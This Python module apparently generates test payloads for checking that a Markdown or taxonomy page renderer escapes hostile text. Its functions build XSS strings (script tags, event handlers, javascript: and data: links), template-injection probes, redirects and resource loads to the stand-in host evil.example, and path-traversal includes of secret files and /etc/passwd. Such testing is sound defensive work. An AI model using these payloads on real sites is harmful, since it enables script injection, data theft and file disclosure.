"""Texts that attack the page that shows them. One that works calls `TELL` with its place."""

from __future__ import annotations

import re

TELL = "__tell"
"""The function of a page that an attack calls."""

ELSEWHERE = "evil.example"
"""The host that attacks want to be asked."""

SUM = "1787569"  # 1337 * 1337, which only a template works out


def line(place: str) -> str:
    """An attack of one line, at most 500 characters, which tells `place` if it works."""
    call = f"{TELL}('{place}')"
    return (
        f"{place}\"'>{{{{1337*1337}}}}{{% include 'main.html' %}}<img src=x onerror={call}>"
        f"<script>{call}</script>&lt;img src=y onerror={call}&gt;</title></style></script>"
        f'<svg onload={call}>" onmouseover="{call}" x=\'`${{{call}}}`'
    )


def token(place: str) -> str:
    """An attack without white space, for ids, which are at most 256 characters."""
    call = f"{TELL}('{place}')"
    return f'"\'><script>{call}</script><svg/onload={call}>"/onmouseover={call}//#?&lt;%22'


def prose(place: str) -> str:
    """An attack of Markdown, in which nothing is wrong as a link or as a mention of a label."""
    call = f"{TELL}('{place}')"
    return f"""\
{line(place)}

{{: onclick="{call}" style="position:fixed" }}

<div onclick="{call}">

</div></div></section></article><h1 onclick="{call}">outside</h1>

<base href="//{ELSEWHERE}/"><meta http-equiv="refresh" content="0;url=//{ELSEWHERE}/">
<link rel="stylesheet" href="//{ELSEWHERE}/a.css"><iframe srcdoc="<script>parent.{call}</script>">
</iframe><form action="//{ELSEWHERE}/"><input autofocus onfocus="{call}"></form>

--><!-- ]]> <style>*{{background:url(//{ELSEWHERE}/b)}}</style>

[plain](https://{ELSEWHERE}/ "x\\" onmouseover=\\"{call}"){{: onclick="{call}"}}
<https://{ELSEWHERE}/\\"onmouseover={call}>
&lt;script&gt;{call}&lt;/script&gt; `</code><script>{call}</script>`

| a {{: onclick="{call}"}} | <b onclick="{call}">b</b> |
|---|:-:|
| <script>{call}</script> | `</table>` |

    </pre><script>{call}</script>

```html onclick="{call}"
</code></pre><script>{call}</script>
```

!!! note "<script>{call}</script>"
    {{% for each in config %}}{{{{ each }}}}{{% endfor %}}

-8<- "../secret.txt"

--8<-- "../secret.txt"
"""


def free(place: str) -> str:
    """An attack of Markdown in a taxonomy, whose links nobody has looked at."""
    call = f"{TELL}('{place}')"
    return f"""\
{prose(place)}

[a](javascript:{call}) [b](JaVa&#115;cript:{call}) [c](java&Tab;script:{call})
<javascript:{call}>
[d](data:text/html,<script>{call}</script>)
[e](//{ELSEWHERE}/) [f](\\\\{ELSEWHERE}) [g](vbscript:{call})
![h](//{ELSEWHERE}/x.png) ![i](javascript:{call}) ![j](../../secret.png) [k](file:///etc/passwd)

[l]: javascript:{call}
[m][l] [[thing]] [[nothing|<script>{call}</script>]] [[term x|<img src=x onerror={call}>]]

![[../../../secret.txt]]
"""


def quoted(value: str) -> str:
    """A value in the braces of a mark."""
    return '"' + re.sub(r'(["\\\[\]{}])', r"\\\1", value) + '"'


def plain(place: str) -> str:
    """An attack in the text of a unit in which nothing is markup."""
    return line(place).replace("[", "(").replace("]", ")").replace("{", "(").replace("}", ")")
